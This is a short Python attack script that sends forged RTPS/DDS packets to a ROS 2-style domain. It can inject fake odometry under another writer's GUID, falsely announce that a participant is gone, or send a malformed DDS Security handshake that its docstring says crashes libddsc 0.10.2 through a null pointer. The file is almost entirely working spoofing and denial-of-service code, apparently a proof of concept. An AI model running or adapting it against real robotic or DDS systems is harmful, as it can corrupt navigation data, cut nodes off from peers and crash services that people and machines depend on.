#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Sends plain RTPS as if it came from another: odometry of a frame that nobody has, from its writer; that its whole process
is gone; or a handshake of DDS Security that is none, and a null pointer in libddsc 0.10.2.

spoofed_packets.py DOMAIN WRITER odometry|gone|key [ADDRESS]   WRITER: its GUID, as the daemon says from whom it takes
odometry. ADDRESS: of the daemon's machine, 127.0.0.1 if none is given.
"""
import socket
import struct
import sys
import time

PARTICIPANTS = 31  # whose ports are tried (RTPS 2.2, 9.6.1)


def text(value: str) -> bytes:
    """A string of CDR, with padding for what follows, which begins at a multiple of four."""
    raw = value.encode() + b"\0"
    return struct.pack("<I", len(raw)) + raw + b"\0" * (-len(raw) % 4)


def data(flags: int, writer: bytes, number: int, rest: bytes) -> bytes:
    body = struct.pack("<HHI", 0, 16, 0) + writer + struct.pack("<iI", 0, number) + rest
    return struct.pack("<BBH", 0x15, flags, len(body)) + body


def odometry(writer: bytes, number: int) -> bytes:
    head = struct.pack("<iI", int(time.time()), 0) + text("spoofed") + text("base_link")
    head += b"\0" * (-len(head) % 8)
    pose = struct.pack("<7d", 0, 0, 1, 0, 0, 0, 1) + bytes(36 * 8)
    return data(0x05, writer[12:], number, b"\0\1\0\0" + head + pose + bytes(6 * 8 + 36 * 8))


def gone(writer: bytes, number: int) -> bytes:
    """The announcement of its participant, disposed and unregistered: key alone."""
    participant = writer[:12] + bytes.fromhex("000001c1")
    end = struct.pack("<HH", 1, 0)
    status = struct.pack("<HH", 0x71, 4) + b"\0\0\0\3" + end
    key = b"\0\3\0\0" + struct.pack("<HH", 0x50, 16) + participant + end
    return data(0x0b, bytes.fromhex("000100c2"), number, status + key)


def key(_writer: bytes, number: int) -> bytes:
    """A handshake of DDS Security that is a key in place of data."""
    return data(0x09, bytes.fromhex("000201c3"), number, b"\0\1\0\0" + bytes(64))


def main() -> int:
    domain, writer = int(sys.argv[1]), bytes.fromhex(sys.argv[2].replace(":", ""))
    message, port = {"odometry": (odometry, 11), "gone": (gone, 10), "key": (key, 10)}[sys.argv[3]]
    address = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.1"
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for number in range(50):
        packet = b"RTPS\2\1\1\x10" + writer[:12] + message(writer, 1 << 30 | number)
        for participant in range(PARTICIPANTS):
            out.sendto(packet, (address, 7400 + 250 * domain + port + 2 * participant))
        time.sleep(0.02)
    return 0


if __name__ == "__main__":
    sys.exit(main())
